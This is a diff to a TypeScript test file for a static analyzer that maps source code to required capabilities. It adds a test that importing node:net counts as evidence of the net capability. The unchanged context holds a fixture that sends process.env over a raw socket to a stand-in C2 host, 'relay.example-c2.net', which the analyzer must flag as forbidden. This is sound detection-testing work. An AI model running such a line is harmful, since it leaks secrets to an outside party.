@@ -71,6 +71,12 @@ describe('node:net and other raw sockets: flagged with what the runtime allows',
     assert.match(f[0]!.message, /at runtime only a client of a local socket the net grant names/);
   });
 
+  it('an import of node:net is evidence of the net capability (the grant the runtime needs)', () => {
+    const caps = (src: string) => analyzeSource(src, { file: 'index.ts' }).evidence.map((e) => e.capability);
+    assert.ok(caps("import net from 'node:net';\nnet.connect('/tmp/x.sock');").includes('net'));
+    assert.ok(!caps("import dgram from 'node:dgram';").includes('net'));
+  });
+
   it('the environment written to a raw socket is still exfiltration (forbidden)', () => {
     const src = "import net from 'node:net';\nconst s = net.connect(4444, 'relay.example-c2.net');\ns.write(JSON.stringify(process.env));";
     assert.equal(verdict(src), 'forbidden');
